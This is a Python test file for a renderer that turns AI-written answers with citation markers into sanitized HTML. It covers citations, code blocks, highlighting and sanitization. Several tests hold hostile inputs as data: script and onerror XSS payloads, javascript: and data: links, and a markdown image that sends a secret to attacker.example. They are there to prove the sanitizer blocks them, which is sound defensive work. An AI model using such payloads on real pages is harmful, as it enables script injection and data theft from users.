from __future__ import annotations

from bs4 import BeautifulSoup
from hypothesis import given
from hypothesis import strategies as st

from answers.rendering import render_answer_html, sanitize_html


def render(text: str, count: int = 3) -> str:
    return render_answer_html(text, anchor_prefix="answer-7-source", source_count=count)


def test_struck_out_text_stays_struck_out_on_the_page():
    # markdown-it writes strikethrough as <s>; the sanitizer dropped it, so a claim the
    # model struck out read as asserted, with its citation.
    soup = BeautifulSoup(render("It is ~~fast [1]~~ slow [2]."), "html.parser")
    assert [tag.get_text() for tag in soup.find_all(["s", "del"])] == ["fast [1]"]


def test_markers_become_links_to_sources_panel_entries():
    soup = BeautifulSoup(render("Lambdas are small [1]. See also [2, 3]."), "html.parser")
    hrefs = [a["href"] for a in soup.select("a.citation")]
    assert hrefs == ["#answer-7-source-1", "#answer-7-source-2", "#answer-7-source-3"]


def test_code_is_left_alone():
    html = render("Use `a[1]` here [1].\n\n```python\nx = y[2]\n```\n")
    soup = BeautifulSoup(html, "html.parser")
    assert [c.get_text() for c in soup.find_all("code")] == ["a[1]", "x = y[2]\n"]
    assert len(soup.select("a.citation")) == 1


def test_a_citation_repeated_inside_bold_leaves_the_bold_on_the_page():
    from answers.citations import finalize_citations

    # The repeat is dropped; "**Note [1] **" would show its asterisks as text.
    final = finalize_citations("**Note [1] [1]** and *see [2] [2]*.", ["a", "b"]).text
    soup = BeautifulSoup(render(final, 2), "html.parser")
    assert [tag.get_text() for tag in soup.find_all(["strong", "em"])] == ["Note [1]", "see [2]"]
    assert "*" not in soup.get_text()


def test_a_full_width_marker_in_angle_brackets_links_the_source_it_cited():
    from answers.citations import finalize_citations

    # "<\uff3b2\uff3d>" is no autolink: the page links its marker, so the rules renumber it
    # with the others, or it would point at another source.
    result = finalize_citations("Lambdas <\uff3b2\uff3d> are small [2] [1].", ["a", "b"])
    assert result.sources == ["b", "a"]
    soup = BeautifulSoup(render(result.text, 2), "html.parser")
    assert [a.get_text() for a in soup.select("a.citation")] == ["1", "1", "2"]


def test_raw_html_is_not_rendered():
    html = render('<script>alert(1)</script> <img src=x onerror="alert(2)"> [1]')
    soup = BeautifulSoup(html, "html.parser")
    assert soup.find("script") is None and soup.find("img") is None
    assert "&lt;script&gt;" in html


def test_images_are_shown_as_text_not_loaded():
    soup = BeautifulSoup(render("![secret](https://attacker.example/?q=secret) [1]"), "html.parser")
    assert soup.find("img") is None
    assert "[image: secret]" in soup.get_text()


def test_dangerous_link_schemes_are_removed():
    html = render("[click](javascript:alert(1)) [x](JaVaScRiPt:alert(1)) [y](data:text/html,hi)")
    soup = BeautifulSoup(html, "html.parser")
    for a in soup.find_all("a"):
        href = a.get("href", "")
        assert href.startswith(("http:", "https:", "mailto:", "#")) or not href


def test_forged_placeholders_in_model_text_do_nothing():
    html = render("\ue0009\ue001 forged [1]", count=1)
    assert "#answer-7-source-9" not in html


def test_links_get_safe_rel():
    soup = BeautifulSoup(render("[docs](https://docs.python.org) [1]"), "html.parser")
    link = soup.find("a", href="https://docs.python.org")
    assert "noopener" in link["rel"] and "noreferrer" in link["rel"]


@given(st.text(alphabet=st.sampled_from(list("ab [1]2`*_<>&\"'()!\n#-:/")), max_size=120))
def test_sanitizing_the_output_again_changes_nothing(text):
    html = render(text)
    assert sanitize_html(html) == html


def test_fenced_code_is_highlighted_by_its_language_with_classes_only():
    html = render("Square it [1]:\n\n```python\nsquare = lambda x: x * x  # [2]\n```\n", count=2)
    soup = BeautifulSoup(html, "html.parser")
    code = soup.select_one("pre code.hl.language-python")
    assert code.select_one("span.hl-k").get_text() == "lambda"
    assert code.get_text() == "square = lambda x: x * x  # [2]\n"  # the code, unchanged
    assert not soup.select("[style]")  # the strict CSP allows no style attributes
    assert len(soup.select("a.citation")) == 1  # "[2]" in code is code, not a citation


def test_only_a_named_language_or_an_interpreter_session_is_highlighted():
    session = BeautifulSoup(render("```\n>>> 1 + 1\n2\n```\n"), "html.parser")
    assert session.select_one("code.hl .hl-gp").get_text() == ">>> "
    for text in ("```\nx = 1\n```\n", "```no-such-language\nx = 1\n```\n"):
        soup = BeautifulSoup(render(text), "html.parser")
        assert soup.select_one("pre code").get_text() == "x = 1\n"
        assert not soup.select("span")  # not guessed


@given(st.text(max_size=200), st.sampled_from(["", "python", "pycon", "bash", "nope"]))
def test_highlighting_keeps_the_code_as_written(code, language):
    if "```" in code:
        return
    html = render(f"```{language}\n{code}\n```\n")
    plain = render(f"```\n{code}\n```\n") if language else html
    assert BeautifulSoup(html, "html.parser").get_text() == (
        BeautifulSoup(plain, "html.parser").get_text()
    )


def test_the_shipped_highlight_css_is_the_generated_one():
    from pathlib import Path

    from answers.rendering import highlight_css

    shipped = Path(__file__).resolve().parent.parent / "answers/static/answers/highlight.css"
    assert shipped.read_text() == highlight_css(), (
        "regenerate answers/static/answers/highlight.css from answers.rendering.highlight_css()"
    )


def test_a_passage_renders_as_markdown_and_none_of_its_markers_is_a_citation():
    from answers.rendering import render_passage_html

    soup = BeautifulSoup(render_passage_html("See `x` and **this** [1] [2]."), "html.parser")
    assert soup.select_one("code").get_text() == "x" and soup.select_one("strong")
    assert not soup.select("a.citation") and "[1] [2]" in soup.get_text()
